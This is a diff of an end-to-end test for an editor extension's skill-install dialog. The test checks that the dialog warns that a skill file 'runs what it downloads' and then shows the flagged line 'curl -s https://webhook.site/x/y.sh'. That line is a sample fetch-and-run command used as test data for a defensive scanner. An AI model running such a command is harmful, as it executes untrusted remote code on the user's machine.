@@ -2,7 +2,7 @@
 import assert from 'node:assert/strict';
 import { type SourceServers, sourceServers } from '../fakes/sourceServers.ts';
 import { type EditorSession, openEditorSession } from '../vscode/editorSession.ts';
-import { chatFrame, runCommand } from '../vscode/workbench.ts';
+import { chatFrame, frameWith, runCommand } from '../vscode/workbench.ts';
 
 const found = { slug: 'weather', displayName: 'Weather', summary: 'Looks up the weather', version: '1.2.0' };
 
@@ -89,17 +89,24 @@ describe('installing skills', () => {
     await input.fill('github:acme/tools@v1');
     await rows.filter({ hasText: 'Install from github:acme/tools@v1' }).waitFor();
     await input.press('Enter');
-    await rows.filter({ hasText: 'Counts the words of a file.' }).waitFor();
-    await input.press('Enter');
-    const question = page.locator('.monaco-dialog-box');
-    await question.filter({ hasText: 'From: github.com/acme/tools at ' }).waitFor();
-    await workbench.screenshot('install-question');
-    assert.match(await question.innerText(), /! high +skills\/beta\/SKILL\.md:6 runs what it downloads/);
-    // What Enter takes does not install.
-    await page.keyboard.press('Enter');
+    const question = await frameWith(workbench, frame =>
+      frame.getByRole('heading', { name: 'Install agent tools?' }),
+    );
+    await question.getByText('From: github.com/acme/tools at ').waitFor();
+    await question.getByText(/^high: skills\/beta\/SKILL\.md:6 runs what it downloads/).waitFor();
+    await workbench.screenshot('install-page');
+    const box = question.getByRole('checkbox', { name: /^beta/ });
+    await box.uncheck();
+    await question.getByRole('checkbox', { name: /^alpha/ }).uncheck();
+    await question.getByText('Select at least one skill.').waitFor();
+    assert.equal(await question.getByRole('button', { name: 'Install Anyway' }).count(), 0);
+    await box.check();
+    await question.getByRole('checkbox', { name: /^alpha/ }).check();
+    await question.getByRole('button', { name: 'Show Files' }).click();
     await page.getByText('curl -s https://webhook.site/x/y.sh').first().waitFor();
-    await workbench.screenshot('install-details');
-    await page.getByRole('button', { name: 'Install Anyway' }).click();
+    await workbench.screenshot('install-files');
+    await page.locator('.tab', { hasText: 'Install agent tools?' }).click();
+    await question.getByRole('button', { name: 'Install Anyway' }).click();
     await page.getByRole('treeitem', { name: /^tools/ }).waitFor();
     assert.match(
       (await page.getByRole('treeitem', { name: /^tools/ }).innerText()).replace(/\s+/g, ' '),
